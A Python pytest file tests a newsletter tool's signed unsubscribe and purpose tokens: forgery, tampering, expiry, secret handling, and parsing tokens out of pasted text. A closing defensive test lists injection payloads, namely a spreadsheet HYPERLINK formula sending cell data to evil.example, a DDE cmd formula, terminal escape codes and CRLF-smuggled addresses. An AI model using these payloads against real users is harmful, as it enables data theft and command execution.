"""Tokens (lists/tokens.py): who may make them, what they name, and what is refused.

Unsubscribe tokens (`Signer`) sit in mail already sent and need no database to check; the
reader service's tokens (`PurposeSigner`) carry a purpose and an expiry; `purpose_mac` signs
VERP return paths. None crosses into another's place, and without `NEWSLETTER_SECRET` no
token is believed: the outbox's marked local secret is in the source.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import os
import urllib.parse
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from newsletter.config import load_config
from newsletter.delivery.message import list_unsubscribe
from newsletter.errors import ConfigError, TokenError
from newsletter.lists import tokens
from newsletter.lists.tokens import LOCAL_SECRET, PurposeSigner, Signer, link, purpose_mac
from newsletter.lists.unsubscribe import token_in
from newsletter.storage.store import open_existing_store
from tests.commands import assert_clean_exit, bare_workspace, cli, files_under, said, smtp_env
from tests.sending import ISSUE_ID, SECRET
from tests.servers.sendgrid import TEST_API_KEY, SendGridServer
from tests.servers.smtp import SMTPServer
from tests.workspace import SAMPLE

LIST = "weekly.example.org"
LIST_ID = "the-weekly-brief.example.org"  # the sample workspace's
# NEWSLETTER_PROPERTY_SCALE=20 runs twenty times the examples, for a thorough look by hand.
SCALE = int(os.environ.get("NEWSLETTER_PROPERTY_SCALE", "1"))
SETTINGS = settings(
    max_examples=50 * SCALE,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


@pytest.fixture
def ws(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    return bare_workspace(tmp_path / "ws", monkeypatch)


def nothing_suppressed(ws: Path) -> bool:
    """No suppression anywhere: neither in the store nor in a CSV file."""
    store = open_existing_store(load_config(ws / "newsletter.yaml"))
    if store is not None:
        with store:
            if list(store.suppressions()):
                return False
    return not (ws / "suppressions.csv").exists()


# --- unsubscribe tokens: one address, one list, one secret ------------------------------------


def test_a_token_works_for_its_own_address_and_list_only() -> None:
    weekly = Signer(SECRET, LIST)
    token = weekly.token("ann@example.com")
    assert weekly.verify(token) == "ann@example.com"
    assert weekly.verify(f"  {token}\n") == "ann@example.com"  # as pasted
    assert weekly.token("bob@example.com") != token
    with pytest.raises(TokenError, match="not valid for this list"):
        Signer(SECRET, "daily.example.org").verify(token)
    with pytest.raises(TokenError, match="not valid for this list"):
        Signer("another-secret-0123456789", LIST).verify(token)
    # ann's MAC under bob's address (or ANN's: a token names one exact address)
    mac = token.partition(".")[2]
    for other in ("bob@example.com", "ANN@example.com", "ann@example.co"):
        forged = Signer(SECRET, "x").token(other).partition(".")[0] + "." + mac
        with pytest.raises(TokenError):
            weekly.verify(forged)


@pytest.mark.parametrize("address", ["ann@example.com", "zoë.ünal@example.com", "x" * 300])
def test_the_mac_is_hmac_sha256_so_links_already_sent_keep_working(address: str) -> None:
    """Pinned: the key is HMAC-SHA256(secret, list id), the MAC its HMAC of the address."""
    key = hmac.new(SECRET.encode(), LIST.encode(), hashlib.sha256).digest()
    mac = hmac.digest(key, address.encode(), "sha256")[:16]
    expected = base64.urlsafe_b64encode(mac).decode().rstrip("=")
    token = Signer(SECRET, LIST).token(address)
    assert token.partition(".")[2] == expected


def test_every_changed_or_shortened_token_is_refused() -> None:
    signer = Signer(SECRET, LIST)
    token = signer.token("zoë.ünal@example.com")
    variants = {token[:n] for n in range(len(token))} | {token + "A", token + "=", "." + token}
    for i in range(len(token)):
        for bit in range(8):
            flipped = bytearray(token.encode())
            flipped[i] ^= 1 << bit
            variants.add(flipped.decode("latin-1"))
    head, _, tail = token.partition(".")
    variants |= {
        f"{head}=.{tail}",
        f"{head}.{tail}==",
        f"{head}.{tail[:-1]}{chr(ord(tail[-1]) ^ 1)}",
    }
    variants |= {token.replace("-", "+").replace("_", "/"), f"{head}.\n{tail}", f"{head}..{tail}"}
    variants -= {token, " " + token, token + " "}
    for variant in variants:
        with pytest.raises(TokenError):
            signer.verify(variant)


def test_tokens_are_checked_with_compare_digest(monkeypatch: pytest.MonkeyPatch) -> None:
    """The MAC is compared in constant time: the decision is compare_digest's, nobody else's."""
    signer = Signer(SECRET, LIST)
    token = signer.token("ann@example.com")
    calls: list[tuple[bytes, bytes]] = []
    real = hmac.compare_digest

    def recording(a: bytes, b: bytes) -> bool:
        calls.append((a, b))
        return real(a, b)

    monkeypatch.setattr(tokens.hmac, "compare_digest", recording)
    assert signer.verify(token) == "ann@example.com"
    with pytest.raises(TokenError):
        signer.verify(Signer("another-secret-0123456789", "x").token("ann@example.com"))
    assert len(calls) == 2 and all(len(a) == len(b) == 16 for a, b in calls)
    monkeypatch.setattr(tokens.hmac, "compare_digest", lambda a, b: False)
    with pytest.raises(TokenError):
        signer.verify(token)  # refused because compare_digest said so


@SETTINGS
@given(address=st.one_of(st.emails(), st.text(min_size=1)), other=st.emails())
def test_a_token_works_for_its_address_and_list_only(address: str, other: str) -> None:
    signer = Signer("property-test-secret-0123456789", "weekly.example.org")
    token = signer.token(address)
    assert signer.verify(token) == address
    assert signer.token(other) != token or other == address
    for stranger in (
        Signer("property-test-secret-0123456789", "daily.example.org"),
        Signer("another-secret-of-enough-length", "weekly.example.org"),
    ):
        with pytest.raises(TokenError):
            stranger.verify(token)
    for bad in _tampered(token):
        with pytest.raises(TokenError):
            signer.verify(bad)


def _tampered(token: str) -> Iterator[str]:
    for n in range(len(token)):
        yield token[:n]
    for i, ch in enumerate(token):
        for bit in range(7):
            changed = chr(ord(ch) ^ (1 << bit))
            if not changed.isspace():  # surrounding whitespace is stripped, as pasted
                yield token[:i] + changed + token[i + 1 :]


# --- the reader service's tokens: one purpose, until they expire ------------------------------


def test_a_token_gives_back_its_payload_until_it_expires() -> None:
    confirm = PurposeSigner(SECRET, LIST, "confirm")
    token = confirm.token("nonce-1", expires=1000)
    assert confirm.verify(token, now=999) == "nonce-1"
    with pytest.raises(TokenError, match="expired"):
        confirm.verify(token, now=1001)


def test_no_token_works_for_another_purpose_list_or_secret() -> None:
    confirm = PurposeSigner(SECRET, LIST, "confirm")
    csrf = PurposeSigner(SECRET, LIST, "csrf")
    token = confirm.token("ada@example.org", expires=2**40)
    for other in (csrf, PurposeSigner(SECRET, "other.example.org", "confirm")):
        with pytest.raises(TokenError):
            other.verify(token, now=0)
    with pytest.raises(TokenError):
        PurposeSigner("another-secret-0123456789", LIST, "confirm").verify(token, now=0)
    # Unsubscribe tokens (the Signer's, in mail already sent) and these never cross.
    with pytest.raises(TokenError):
        Signer(SECRET, LIST).verify(token)
    with pytest.raises(TokenError):
        confirm.verify(Signer(SECRET, LIST).token("ada@example.org"), now=0)


def test_changed_or_truncated_tokens_are_refused() -> None:
    confirm = PurposeSigner(SECRET, LIST, "confirm")
    token = confirm.token("nonce", expires=2**40)
    head, _, tail = token.partition(".")
    for bad in (token[:-1], head, f"{head}.", token + "A", f"{head[:-1]}x.{tail}", ""):
        with pytest.raises(TokenError):
            confirm.verify(bad, now=0)


def test_an_unknown_purpose_is_a_programming_error() -> None:
    with pytest.raises(ValueError, match="purpose"):
        PurposeSigner(SECRET, LIST, "unsubscribe")


def test_the_mac_is_bound_to_its_purpose() -> None:
    parts = ("list", ISSUE_ID, "ada@example.com")
    assert purpose_mac(SECRET, "verp", *parts) != purpose_mac(SECRET, "other", *parts)
    assert purpose_mac(SECRET, "verp", *parts) == purpose_mac(SECRET, "verp", *parts)


# --- a token in whatever the editor pastes ---------------------------------------------------


@pytest.mark.parametrize(
    ("given", "token"),
    [
        ("abc.DEF", "abc.DEF"),
        ("  abc.DEF\n", "abc.DEF"),
        ("https://x.example/unsubscribe?token=abc.DEF", "abc.DEF"),
        ("https://x.example/u?list=w&token=abc.DEF&utm=x", "abc.DEF"),
        ("unsubscribe abc.DEF", "abc.DEF"),
        ("Re: unsubscribe abc.DEF", "abc.DEF"),
        ("subject=unsubscribe%20abc.DEF", "abc.DEF"),
        ("<https://x.example/u?token=abc.DEF>", "abc.DEF"),
        ("<https://x.example/u?token=abc.DEF>, <mailto:u@x.example?subject=x>", "abc.DEF"),
        ('"unsubscribe abc.DEF"', "abc.DEF"),
        ("", ""),
    ],
)
def test_the_token_is_found_in_what_the_editor_pastes(given: str, token: str) -> None:
    assert token_in(given) == token


@SETTINGS
@given(address=st.one_of(st.emails(), st.text(min_size=1)))
def test_a_token_is_found_in_every_form_an_unsubscribe_request_takes(address: str) -> None:
    """The link, the List-Unsubscribe mailto's subject (raw, decoded, replied to), or alone."""
    signer = Signer("property-test-secret-0123456789", "weekly.example.org")
    token = signer.token(address)
    url = link("https://brief.example.org/unsubscribe?list=weekly", token)
    header = list_unsubscribe(url, "unsubscribe@example.org", token, fold=False)
    assert header is not None
    mailto = header.split("<mailto:")[1].rstrip(">")
    subject = urllib.parse.unquote(mailto.split("?subject=")[1])
    for request in (url, f"<{url}>", mailto, subject, f"Re: {subject}", f" {token}\n"):
        assert signer.verify(token_in(request)) == address, request


# --- the secret: real mail needs it, and nothing signed without it is believed ---------------


def test_real_sends_need_the_secret_and_never_connect_without_it(ws: Path) -> None:
    with SendGridServer(TEST_API_KEY) as sendgrid, SMTPServer() as smtp:
        for provider, env in (
            ("sendgrid", {"SENDGRID_API_KEY": TEST_API_KEY, "SENDGRID_API_HOST": sendgrid.url}),
            ("smtp", {**smtp_env(smtp.port), "NEWSLETTER_SECRET": ""}),
        ):
            result = cli("send", SAMPLE, "--to", "list.csv", "--yes", "-p", provider, env=env)
            assert_clean_exit(result, 1)
            assert "NEWSLETTER_SECRET is not set; unsubscribe links must be signed" in said(result)
        assert sendgrid.requests == 0 and smtp.connections == 0
    with pytest.raises(ConfigError, match="too short") as info:
        Signer("short-secret", "l")
    assert "short-secret" not in str(info.value)


def test_the_outbox_and_dry_runs_sign_with_the_marked_local_secret(ws: Path) -> None:
    assert cli("send", SAMPLE, "--to", "list.csv", "--dry-run").exit_code == 0
    assert cli("send", SAMPLE, "--to", "list.csv", "--yes").exit_code == 0
    local = Signer(LOCAL_SECRET, LIST_ID)
    assert local.local and not Signer(SECRET, LIST_ID).local
    messages = [*files_under(ws / "outbox"), *(ws / "build" / "preview").rglob("*.eml")]
    assert len(messages) == 5 + 3
    for path in messages:
        token = path.read_text().split("?token=", 1)[1].split(">", 1)[0]
        address = local.verify(token)
        assert f"<{address}>" in path.read_text()
        with pytest.raises(TokenError):
            Signer(SECRET, LIST_ID).verify(token)


def test_without_the_secret_no_token_is_believed(ws: Path) -> None:
    """The source has the constant that outbox and dry-run mail is signed with: anyone can
    make a token with it, for anyone's address."""
    forged = Signer(LOCAL_SECRET, LIST_ID).token("reader00000@example.com")
    result = cli("unsubscribe", forged, env={"NEWSLETTER_SECRET": ""})
    assert result.exit_code == 1
    assert "NEWSLETTER_SECRET is not set" in said(result) and "Traceback" not in said(result)
    assert nothing_suppressed(ws)


def test_the_constant_secret_set_by_hand_is_refused_too(ws: Path) -> None:
    forged = Signer(LOCAL_SECRET, LIST_ID).token("reader00000@example.com")
    result = cli("unsubscribe", forged, env={"NEWSLETTER_SECRET": LOCAL_SECRET})
    assert result.exit_code == 1
    assert nothing_suppressed(ws)


@pytest.mark.parametrize(
    "carried",
    [
        '=HYPERLINK("http://evil.example/?x="&A1)',
        "=cmd|' /C calc'!A0",
        "\x1b[2J\x1b]0;owned\x07",
        "ann@example.com\n=1+1",
        "ann@example.com\r\nbob@example.com",
        "not an address",
    ],
)
def test_a_token_carrying_no_address_is_refused_and_shown_inert(ws: Path, carried: str) -> None:
    token = Signer(SECRET, LIST_ID).token(carried)  # signed with the real secret even
    result = cli("unsubscribe", token, env={"NEWSLETTER_SECRET": SECRET})
    assert result.exit_code == 1
    assert "not a valid address" in result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert nothing_suppressed(ws)
